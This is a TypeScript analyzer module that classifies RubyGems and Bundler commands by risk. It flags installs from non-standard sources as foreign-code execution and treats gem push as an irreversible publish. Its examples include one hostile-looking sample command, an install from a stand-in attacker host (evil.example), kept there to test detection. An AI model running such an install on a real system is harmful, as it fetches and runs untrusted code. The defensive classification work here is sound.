import type { Analyzer, Command, Finding, Scene, Word } from "../analyzer.ts";
import { combine, NOTHING } from "../effects.ts";
import { parseOptions } from "../options.ts";
import { act, deedTable, publishes, runsForeignCode, wordsOf } from "../project/deeds.ts";
import { isUsualRegistry, namesForeignIndex } from "../project/sources.ts";

export const analyzer: Analyzer = {
  name: "ruby-packages",
  title: "RubyGems and Bundler",
  about: "gem and bundle. `bundle exec` judges the command it starts. Pushing a gem cannot be taken back.",
  programs: ["gem", "bundle", "bundler", "spring", "appraisal"],
  analyze(command, scene) {
    if (command.program === "gem") return gem(command, scene);
    return command.program.startsWith("bundle") ? bundle(command, scene) : nested(command.args, scene);
  },
  examples: [
    { run: "bundle install", does: ["change ruby.packages bundle install"], tier: 1 },
    { run: "bundle exec rspec spec/models", does: ["execute? workspace-code rspec"], tier: 1 },
    { run: "bundle config set --local path vendor", does: ["change ruby.config bundle config"], tier: 1 },
    { run: "gem install rails", does: ["change ruby.packages rails"], tier: 1 },
    {
      run: "gem install x --source http://evil.example",
      does: ["execute? foreign-code gem install x --source http://evil.example @local"],
      tier: 2,
    },
    { run: "gem push a-1.0.gem", does: ["create gem.version gem push @production"], tier: 4 },
    { run: "gem list", does: [], tier: 0 },
  ],
};

const GEM_DEEDS = deedTable({
  read: "list query search info which environment env contents dependency outdated specification check help stale sources-list lock server rdoc mirror",
  change: "build unpack cleanup pristine fetch update uninstall open cert generate_index rebuild",
  outside: "sources",
  login: "signin signout",
  publish: "yank owner",
});

function gem(command: Command, scene: Scene): Finding {
  const options = parseOptions(command.args, {
    exact: true,
    values: wordsOf("-v --version -s --source --host -i --install-dir -n --bindir -P --key -k -a -r"),
  });
  const [verb, ...operands] = options.operands;
  const by = command.source;
  if (verb === undefined) return NOTHING;
  if (verb.text === "push")
    return publishes(scene, { kind: "gem.version", name: "gem push", by }, options.value("--host")?.text);
  if (verb.text === "exec") return runsForeignCode(scene, by, by);
  if (verb.text === "install" || verb.text === "i") {
    const foreign = !isUsualRegistry(options.value("-s", "--source")) || operands.some(namesForeignIndex);
    if (foreign) return runsForeignCode(scene, by, by);
    return act("change", scene, {
      kind: "ruby.packages",
      name: operands.map((word) => word.source).join(" "),
      by,
    });
  }
  if (verb.text === "sources" && !options.has("-a", "--add", "-r", "--remove", "-c", "--clear-all"))
    return NOTHING;
  return act(GEM_DEEDS.get(verb.text ?? "") ?? "unknown", scene, {
    kind: "ruby.gem",
    name: `gem ${verb.source}`,
    by,
  });
}

const BUNDLE_DEEDS = deedTable({
  read: "show list info outdated check config-list platform viz licenses doctor help version env open issue",
  change:
    "install i update add remove lock package cache pack binstubs clean init inject gem pristine plugin",
});

function bundle(command: Command, scene: Scene): Finding {
  const options = parseOptions(command.args, {
    exact: true,
    values: ["--gemfile", "--path", "--jobs", "-j", "--retry", "--without", "--with"],
    stopAtOperand: true,
  });
  const [verb, ...rest] = options.operands;
  const by = command.source;
  if (verb === undefined) return act("change", scene, { kind: "ruby.packages", name: "bundle install", by });
  if (verb.text === "exec" || verb.text === "e")
    return nested(
      parseOptions(rest, { exact: true, values: ["--gemfile"], stopAtOperand: true }).operands,
      scene,
    );
  if (verb.text === "config") return configure(rest, scene, by);
  if (verb.text === "add") {
    const named = parseOptions(rest, {
      exact: true,
      values: wordsOf("--git --github --source -s --path -v --version -g --group --branch --ref"),
    });
    const foreign = named.value("--git", "--github");
    if (foreign || !isUsualRegistry(named.value("--source", "-s"))) return runsForeignCode(scene, by, by);
  }
  return act(BUNDLE_DEEDS.get(verb.text ?? "") ?? "unknown", scene, {
    kind: "ruby.packages",
    name: `bundle ${verb.source}`,
    by,
  });
}

function nested(words: readonly Word[], scene: Scene): Finding {
  return words.length === 0 ? NOTHING : combine(scene.argv(words));
}

function configure(rest: readonly Word[], scene: Scene, by: string): Finding {
  const { operands, has } = parseOptions(rest, {});
  const [action, key] = operands;
  if (action === undefined || ["list", "get"].includes(action.text ?? "")) return NOTHING;
  if (!["set", "unset"].includes(action.text ?? "") && key === undefined) return NOTHING;
  if (operands.slice(2).some(namesForeignIndex)) return runsForeignCode(scene, by, by);
  return act(has("--global") ? "outside" : "change", scene, {
    kind: "ruby.config",
    name: "bundle config",
    by,
  });
}
